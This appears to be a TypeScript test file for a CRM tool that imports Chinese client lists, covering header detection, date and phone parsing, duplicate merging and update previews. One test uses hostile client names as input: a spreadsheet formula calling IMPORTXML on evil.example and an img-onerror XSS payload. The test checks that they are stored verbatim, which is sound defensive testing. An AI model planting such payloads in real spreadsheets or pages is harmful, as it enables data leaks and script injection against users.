/**
 * The import engine as a team meets it: a list with a title row and blank lines, Chinese headers,
 * dates the way people type them, the same client twice, clients already in the register, and
 * hostile text, read and planned before anything is written (docs/import.md).
 */
import { render } from '../../src/core/i18n';
import { type MapOverrides, findListHeader } from '../../src/core/import/fields';
import { type ImportPlan, type RegisterClient, planImport } from '../../src/core/import/plan';
import { previewLines } from '../../src/core/import/preview';
import { type ListRow, type ReadContext, readListRow } from '../../src/core/import/values';
import type { TeamMember } from '../../src/core/schema';
import { DEFAULT_SETTINGS, type Settings } from '../../src/core/settings';

const TODAY = '2026-03-10';
const team = [{ name: 'Amy Liu' }, { name: '张伟' }] as TeamMember[];
const ctx: ReadContext = { lang: 'en', tz: 'Asia/Shanghai', today: TODAY, team };

function read(table: unknown[][], overrides: MapOverrides = new Map()): ListRow[] {
  const header = findListHeader(table.slice(0, 10), overrides);
  if (!header.ok) throw new Error('no header');
  return table
    .slice(header.row + 1)
    .map((cells, i) => ({ cells, line: header.row + 2 + i }))
    .filter(({ cells }) => cells.some((c) => String(c ?? '').trim() !== ''))
    .map(({ cells, line }) => readListRow(cells, line, header.mapping, ctx));
}

function plan(
  rows: ListRow[],
  register: RegisterClient[] = [],
  update = false,
  settings: Settings = DEFAULT_SETTINGS,
): ImportPlan {
  return planImport(rows, register, { ...ctx, update, me: 'Amy Liu', settings });
}

const HEADER = ['客户名称', '联系电话', '负责人', '最近跟进', '接通情况', '跟进内容'];

describe('the header of a list', () => {
  test('is found under a title row and blank lines, in Chinese, with the usual aliases and former labels', () => {
    const found = findListHeader([['2026 年客户回访名单'], [], ['', ''], HEADER, ['华为', '138']], new Map());
    expect(found.ok && found.row).toBe(3);
    if (!found.ok) return;
    expect(found.mapping.fields).toEqual({ name: 0, phone: 1, owner: 2, contactDate: 3, outcome: 4, summary: 5 });
  });

  test('业务员, 手机, 公司名称, 跟进日期 and 备注 are owner, phone, name, contact date and summary', () => {
    const found = findListHeader([['公司名称', '手机', '业务员', '跟进日期', '备注']], new Map());
    expect(found.ok && found.mapping.fields).toEqual({ name: 0, phone: 1, owner: 2, contactDate: 3, summary: 4 });
  });

  test("the user's --map wins over the aliases, and a column can be left out", () => {
    const overrides: MapOverrides = new Map([
      ['座机号', 'phone'],
      ['备注', null],
    ]);
    const found = findListHeader([['客户名称', '座机号', '备注']], overrides);
    expect(found.ok && found.mapping.fields).toEqual({ name: 0, phone: 1 });
    expect(found.ok && found.mapping.columns.find((c) => c.header === '备注')?.by).toBe('user');
  });

  test('a list whose columns are none of ours has no header', () => {
    expect(
      findListHeader(
        [
          ['foo', 'bar'],
          ['1', '2'],
        ],
        new Map(),
      ).ok,
    ).toBe(false);
  });
});

describe('values are read as the sidebar reads them', () => {
  test('2026/3/5, 2026年3月5日, 2026.3.5, 2026-03-05 and an Excel serial are all days', () => {
    const rows = read([
      HEADER,
      ['A公司', '', '', '2026/3/5', '无人接听', ''],
      ['B公司', '', '', '2026年3月4日', '无人接听', ''],
      ['C公司', '', '', '2026.3.3', '无人接听', ''],
      ['D公司', '', '', '2026-03-02', '无人接听', ''],
      ['E公司', '', '', '46082', '无人接听', ''],
    ]);
    expect(rows.map((r) => r.contact?.date)).toEqual([
      '2026-03-05',
      '2026-03-04',
      '2026-03-03',
      '2026-03-02',
      '2026-03-01',
    ]);
    expect(rows.every((r) => r.problems.length === 0)).toBe(true);
  });

  test('phones keep +86, spaces, dashes and leading zeros as text', () => {
    const rows = read([HEADER, ['甲', '+86 138-0013-8000', ''], ['乙', '0755 1234 567', ''], ['丙', 13800138000, '']]);
    expect(rows.map((r) => r.client.phone)).toEqual(['+86 138-0013-8000', '0755 1234 567', '13800138000']);
  });

  test('是/否/有/无 are yes and no', () => {
    const rows = read([
      ['客户名称', '有预算', '需求明确', '决策人'],
      ['甲', '是', '有', '否'],
      ['乙', '无', '是', '有'],
    ]);
    expect(rows.map((r) => [r.client.budgetConfirmed, r.client.needConfirmed, r.client.decisionMaker])).toEqual([
      [true, true, false],
      [false, true, true],
    ]);
  });

  test('a formula-looking name and markup are kept exactly as typed', () => {
    const names = ['=IMPORTXML("http://evil.example/x","//a")', '<img src=x onerror=alert(1)>', '+86 138', '@SUM(A1)'];
    const rows = read([['客户名称'], ...names.map((n) => [n])]);
    expect(rows.map((r) => r.client.name)).toEqual(names);
    expect(rows.every((r) => r.problems.length === 0)).toBe(true);
  });

  test('60,000 characters and U+FFFF are refused with one sentence each, naming the column', () => {
    const rows = read([['客户名称'], ['x'.repeat(60_000)], ['bad\uFFFFname']]);
    expect(rows.map((r) => r.problems.length)).toEqual([1, 1]);
    expect(render('en', rows[0].problems[0])).toContain('Name');
    expect(render('en', rows[1].problems[0])).toContain('U+FFFF');
  });

  test('an owner not on the Team, a date in the future and a reached call with nothing said are problems', () => {
    const rows = read([
      HEADER,
      ['甲', '', '王五', '', '', ''],
      ['乙', '', '', '2026-03-11', '无人接听', ''],
      ['丙', '', '', '2026-03-09', '已联系上', ''],
    ]);
    expect(rows.map((r) => r.problems.length)).toEqual([1, 1, 1]);
    expect(rows[0].notOnTeam).toEqual(['王五']);
  });
});

describe('duplicates', () => {
  const register: RegisterClient[] = [
    { id: 'C-1', name: '腾讯科技有限公司', phones: '', email: '' },
    { id: 'C-2', name: 'Acme', phones: '13900000000', email: 'buy@acme.example' },
  ];

  test('rows of the same client in the list become one client with its history, whatever the punctuation', () => {
    const p = plan(
      read([
        HEADER,
        ['华为(深圳)', '+86 138 0013 8000', '', '2026/3/5', '已联系上', '报价'],
        ['华为（深圳）', '', '', '2026.3.8', '无人接听', ''],
        ['', '', '', '2026年3月9日', '已联系上', '约了上门'],
      ]),
    );
    expect(p.counts).toEqual({ newClients: 1, updates: 0, skipped: 0, contacts: 3, reached: 2, fieldUpdates: 0 });
    expect(p.duplicates).toEqual([{ line: 3, name: '华为（深圳）', withLine: 2, reasons: ['name'] }]);
    expect(p.clients[0].contacts.map((c) => c.values.date)).toEqual(['2026-03-05', '2026-03-08', '2026-03-09']);
  });

  test('clients already in the register are found by ID, phone, email and similar name, and left alone without --update', () => {
    const rows = read([
      ['编号', '客户名称', '联系电话', '邮箱', '最近跟进', '联系情况', '跟进内容'],
      ['C-1', '别的名字', '', '', '', '', ''],
      ['', '腾讯科技', '', '', '2026-03-01', '已联系上', '聊了'],
      ['', 'Acme Trading', '139 0000 0000', '', '', '', ''],
      ['', 'Zeta', '', 'BUY@acme.example', '', '', ''],
      ['', '新客户', '', '', '', '', ''],
    ]);
    const p = plan(rows, register);
    expect(p.counts).toEqual({ newClients: 1, updates: 0, skipped: 4, contacts: 0, reached: 0, fieldUpdates: 0 });
    expect(p.duplicates.map((d) => [d.line, d.withClient?.id ?? d.withLine, d.reasons])).toEqual([
      [2, 'C-1', ['id']],
      [3, 'C-1', ['name']],
      [4, 'C-2', ['phone']],
      [5, 'C-2', ['email']],
    ]);
    const updating = plan(rows, register, true);
    expect(updating.counts).toEqual({
      newClients: 1,
      updates: 4,
      skipped: 0,
      contacts: 1,
      reached: 1,
      fieldUpdates: 0,
    });
    expect(updating.clients.find((c) => c.contacts.length > 0)?.matched?.id).toBe('C-1');
  });

  test('a row that is two different clients is refused: a client is never guessed', () => {
    const p = plan(
      read([
        ['客户名称', '联系电话'],
        ['甲公司', '13800000001'],
        ['乙公司', '13800000002'],
        ['甲公司', '13800000002'],
      ]),
    );
    expect(p.counts.newClients).toBe(2);
    expect(p.problems.map((x) => [x.line, x.message.key])).toEqual([[4, 'import.error.twoRows']]);
  });
});

describe('the preview says how values map and what follows', () => {
  test('a history row without an outcome is not an attempt and is not logged', () => {
    const p = plan(
      read([HEADER, ['甲', '', '', '2026-03-01', '', '打过电话'], ['乙', '', '', '2026-03-01', '接通', '聊了']]),
    );
    expect(p.notAttempts).toEqual([2]);
    expect(p.counts.contacts).toBe(1);
    expect(p.listValues).toEqual([{ field: 'outcome', text: '接通', code: 'reached', count: 1 }]);
  });

  test('clients reached long ago are overdue at once and, with the pool on, due for the pool', () => {
    const rows = read([
      HEADER,
      ['甲', '', '张伟', '2025-12-01', '已联系上', '老客户'],
      ['乙', '', '张伟', '2026-03-09', '已联系上', '刚聊过'],
      ['丙', '', '', '', '', ''],
    ]);
    const p = plan(rows, [], false, { ...DEFAULT_SETTINGS, poolEnabled: true });
    expect(p.consequences).toEqual({ overdue: 1, poolDue: 1, notOnTeam: [], ownerless: 1 });
  });
});

describe('create-and-update: the fields of clients already in the register', () => {
  const REGISTER: RegisterClient[] = [
    {
      id: 'C-1',
      name: '华为',
      phones: '13800138000',
      email: '',
      fields: { phone: '138-0013-8000', contact: '王经理', email: '', notes: '老客户' },
    },
  ];
  const LIST = [
    ['客户名称', '联系电话', '联系人', '邮箱', '客户备注'],
    // same phone digits (no change), a new contact person, an email where there was none, an empty note
    ['华为', '+86 138 0013 8000', '李总', 'li@huawei.cn', ''],
  ];
  const overrides: MapOverrides = new Map([['客户备注', 'notes']]);

  test('the list’s values replace the register’s; equal phone digits and empty cells are no change; create-only changes nothing', () => {
    const updating = plan(read(LIST, overrides), REGISTER, true);
    expect(updating.clients[0].updates).toEqual({ phone: '+86 138 0013 8000', contact: '李总', email: 'li@huawei.cn' });
    expect(updating.fieldChanges.map((c) => [c.field, c.before, c.after])).toEqual([
      ['contact', '王经理', '李总'],
      ['email', '', 'li@huawei.cn'],
    ]);
    expect(updating.counts.fieldUpdates).toBe(1);
    const createOnly = plan(read(LIST, overrides), REGISTER, false);
    expect(createOnly.fieldChanges).toEqual([]);
    expect(createOnly.clients[0].updates).toEqual({});
  });

  test('the preview says how many clients change, per field, and lists client, field, before → after in both languages', () => {
    const p = plan(read(LIST, overrides), REGISTER, true);
    const header = { row: 1, mapping: findListHeaderOk(LIST, overrides) };
    const en = previewLines(p, header, 'en', 'Amy Liu');
    expect(en).toContain('Clients already in the register whose details change: 1 (Contact: 1, Email: 1).');
    expect(en).toContain('  Row 2: 华为 (C-1), Contact: “王经理” → “李总”');
    const zh = previewLines(p, header, 'zh-CN', 'Amy Liu');
    expect(zh).toContain('客户表里已有、资料会被修改的客户：1 个（联系人 1 处、邮箱 1 处）。');
    expect(zh).toContain('  第 2 行：华为（C-1），邮箱：（空） → “li@huawei.cn”');
  });
});

describe('the update preview in a Chinese workbook: a stage move and a hand-over', () => {
  const REGISTER: RegisterClient[] = [
    {
      id: 'C-7',
      name: '远山物业',
      phones: '02155550000',
      email: '',
      owner: 'Amy Liu',
      fields: { phone: '021 5555 0000', stage: 'b2', budgetConfirmed: false },
    },
  ];
  const LIST = [
    ['客户名称', '联系电话', '负责人', '阶段', '预算'],
    ['远山物业', '021-5555-0000', '张伟', '签单', '是'],
  ];

  test('each change, the stage moves and the hand-over read as a Chinese sales team says them', () => {
    const p = plan(read(LIST), REGISTER, true);
    const header = { row: 1, mapping: findListHeaderOk(LIST, new Map()) };
    const zh = previewLines(p, header, 'zh-CN', 'Amy Liu');
    expect(zh).toContain('客户表里已有、资料会被修改的客户：1 个（阶段 1 处、预算确认 1 处）。');
    expect(zh).toContain('  第 2 行：远山物业（C-7），阶段：“B2 · 方案与考察” → “成交”');
    expect(zh.some((l) => l.startsWith('其中阶段有变化的客户：1 个'))).toBe(true);
    expect(zh).toContain('按名单转交给新负责人的客户：1 个。');
    expect(zh).toContain('  第 2 行：远山物业（C-7），负责人：Amy Liu → 张伟');
    // Nothing of the English catalogue leaks into the Chinese preview.
    expect(zh.join('\n')).not.toMatch(/Row \d|handed over|details change/);
  });
});

function findListHeaderOk(table: unknown[][], overrides: MapOverrides) {
  const found = findListHeader(table, overrides);
  if (!found.ok) throw new Error('no header');
  return found.mapping;
}
